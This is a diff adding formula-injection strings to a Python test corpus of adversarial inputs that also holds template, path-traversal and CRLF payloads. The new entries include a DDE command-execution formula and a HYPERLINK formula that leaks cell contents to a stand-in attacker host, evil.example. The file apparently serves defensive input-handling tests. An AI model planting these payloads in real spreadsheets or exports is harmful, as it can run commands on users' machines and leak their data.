@@ -70,6 +70,11 @@ CORPUS: dict[str, str | bytes] = {
     "template": "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${7*7}",
     "path-traversal": "../../etc/passwd",
     "crlf-injection": "a\r\nSet-Cookie: x=1",
+    # Formula injection (OWASP): harmless here, live if a file we write passes it on unquoted.
+    "formula-cmd": "=cmd|' /C calc'!A0",
+    "formula-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "formula-plus-at": "+1+1 @SUM(A1:A9)",
+    "formula-tab": "\t=1+1",
     "long-number": "9" * 400,
     "negative-huge": "-99999999999999999999.5e308",
     "date-like": "-0001-13-45",
